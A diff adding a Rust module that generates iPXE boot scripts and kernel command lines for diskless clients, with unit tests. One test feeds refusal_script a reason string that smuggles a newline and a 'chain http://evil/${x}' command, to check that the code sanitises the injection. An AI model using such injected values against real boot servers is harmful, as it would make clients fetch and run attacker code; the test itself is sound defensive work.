@@ -1,0 +1,183 @@
+//! The iPXE script each client gets, and the kernel command line inside it.
+
+use crate::config::ImageProtocol;
+use crate::mac::Mac;
+use crate::policy::ClientBoot;
+use sha2::{Digest, Sha256};
+
+/// The stored image version a client boots.
+#[derive(Debug, Clone)]
+pub struct ImageRef<'a> {
+    pub name: &'a str,
+    pub version: &'a str,
+    pub squashfs_sha256: &'a str,
+}
+
+/// Everything a script is made from.
+#[derive(Debug, Clone)]
+pub struct ScriptParams<'a> {
+    /// `10.0.0.1` or `10.0.0.1:8080`: how clients reach our HTTP server.
+    pub http_authority: &'a str,
+    /// How clients reach our TFTP server, when the image goes over TFTP.
+    pub tftp_authority: &'a str,
+    pub protocol: ImageProtocol,
+    pub mac: Mac,
+    pub boot: &'a ClientBoot,
+    pub image: ImageRef<'a>,
+}
+
+/// A machine-id that is stable across a client's reboots and unique per client: derived from
+/// its MAC, 128 bits in systemd's format (32 lowercase hex digits).
+pub fn machine_id(mac: Mac) -> String {
+    let digest = Sha256::digest(format!("diskless machine-id {mac}").as_bytes());
+    digest[..16].iter().map(|b| format!("{b:02x}")).collect()
+}
+
+/// The URL path of a file of a stored version, as our HTTP and TFTP servers serve it.
+pub fn file_path(image: &ImageRef, file: &str) -> String {
+    format!("/images/{}/{}/{file}", image.name, image.version)
+}
+
+pub fn kernel_cmdline(p: &ScriptParams) -> String {
+    let squashfs = file_path(&p.image, "root.squashfs");
+    let image_url = match p.protocol {
+        ImageProtocol::Http => format!("http://{}{squashfs}", p.http_authority),
+        ImageProtocol::Tftp => format!("tftp://{}{squashfs}", p.tftp_authority),
+    };
+    let mut words = vec![
+        // UEFI iPXE (Debian's older builds) hands initrds to the kernel's EFI stub by name.
+        "initrd=initrd.img".to_string(),
+        "initrd=diskless.cpio".to_string(),
+        "boot=diskless".to_string(),
+        format!("diskless.image={image_url}"),
+        format!("diskless.sha256={}", p.image.squashfs_sha256),
+        format!("diskless.size={}", p.boot.size),
+        format!(
+            "diskless.report=http://{}/api/report/{}",
+            p.http_authority,
+            p.mac.hyphenated()
+        ),
+        format!("systemd.machine_id={}", machine_id(p.mac)),
+        // initramfs-tools configures the NIC the client booted from, not the first one found.
+        format!("BOOTIF=01-{}", p.mac.hyphenated()),
+    ];
+    if !p.boot.cmdline.is_empty() {
+        words.push(p.boot.cmdline.clone());
+    }
+    words.join(" ")
+}
+
+pub fn ipxe_script(p: &ScriptParams) -> String {
+    let base = format!("http://{}", p.http_authority);
+    let kernel = format!("{base}{}", file_path(&p.image, "vmlinuz"));
+    let initrd = format!("{base}{}", file_path(&p.image, "initrd.img"));
+    let cpio = format!("{base}{}", file_path(&p.image, "diskless.cpio"));
+    format!(
+        "#!ipxe\n\
+         # diskless: {mac} boots image {name} version {version}\n\
+         echo diskless: loading {name} {version}\n\
+         kernel {kernel} {cmdline}\n\
+         initrd --name initrd.img {initrd}\n\
+         initrd --name diskless.cpio {cpio}\n\
+         boot\n",
+        mac = p.mac,
+        name = p.image.name,
+        version = p.image.version,
+        cmdline = kernel_cmdline(p),
+    )
+}
+
+/// The script for a client we do not boot: it says why and exits to the next boot device.
+pub fn refusal_script(mac: Mac, reason: &str) -> String {
+    let reason = reason.replace(['\n', '\r', '$'], " ");
+    format!("#!ipxe\necho diskless: not booting {mac}: {reason}\nsleep 5\nexit\n")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn boot() -> ClientBoot {
+        ClientBoot {
+            image: "lab".into(),
+            hostname: None,
+            size: "3G".into(),
+            cmdline: "quiet".into(),
+        }
+    }
+
+    fn params<'a>(boot: &'a ClientBoot, protocol: ImageProtocol) -> ScriptParams<'a> {
+        ScriptParams {
+            http_authority: "10.0.0.1:8080",
+            tftp_authority: "10.0.0.1",
+            protocol,
+            mac: "52:54:00:12:34:56".parse().unwrap(),
+            boot,
+            image: ImageRef {
+                name: "lab",
+                version: "20261125-120000-abcd1234",
+                squashfs_sha256: "ab12",
+            },
+        }
+    }
+
+    #[test]
+    fn script_loads_kernel_both_initrds_and_boots() {
+        let b = boot();
+        let script = ipxe_script(&params(&b, ImageProtocol::Http));
+        let lines: Vec<&str> = script.lines().collect();
+        assert_eq!(lines[0], "#!ipxe");
+        assert!(lines[3].starts_with(
+            "kernel http://10.0.0.1:8080/images/lab/20261125-120000-abcd1234/vmlinuz "
+        ));
+        assert_eq!(lines[4], "initrd --name initrd.img http://10.0.0.1:8080/images/lab/20261125-120000-abcd1234/initrd.img");
+        assert_eq!(lines[5], "initrd --name diskless.cpio http://10.0.0.1:8080/images/lab/20261125-120000-abcd1234/diskless.cpio");
+        assert_eq!(lines[6], "boot");
+    }
+
+    #[test]
+    fn cmdline_carries_image_digest_and_identity() {
+        let b = boot();
+        let cmdline = kernel_cmdline(&params(&b, ImageProtocol::Http));
+        for word in [
+            "boot=diskless",
+            "diskless.image=http://10.0.0.1:8080/images/lab/20261125-120000-abcd1234/root.squashfs",
+            "diskless.sha256=ab12",
+            "diskless.size=3G",
+            "diskless.report=http://10.0.0.1:8080/api/report/52-54-00-12-34-56",
+            "BOOTIF=01-52-54-00-12-34-56",
+            "quiet",
+        ] {
+            assert!(
+                cmdline.split(' ').any(|w| w == word),
+                "{word} missing from {cmdline}"
+            );
+        }
+        let tftp = kernel_cmdline(&params(&b, ImageProtocol::Tftp));
+        assert!(
+            tftp.contains("diskless.image=tftp://10.0.0.1/images/lab/"),
+            "{tftp}"
+        );
+    }
+
+    #[test]
+    fn machine_ids_are_stable_unique_and_well_formed() {
+        let a = machine_id("52:54:00:00:00:01".parse().unwrap());
+        let b = machine_id("52:54:00:00:00:02".parse().unwrap());
+        assert_eq!(a, machine_id("52:54:00:00:00:01".parse().unwrap()));
+        assert_ne!(a, b);
+        assert_eq!(a.len(), 32);
+        assert!(a
+            .chars()
+            .all(|c| c.is_ascii_hexdigit() && !c.is_ascii_uppercase()));
+    }
+
+    #[test]
+    fn refusal_cannot_inject_commands() {
+        let s = refusal_script(
+            "52:54:00:00:00:01".parse().unwrap(),
+            "no image\nchain http://evil/${x}",
+        );
+        assert_eq!(s.lines().count(), 4, "{s}");
+    }
+}
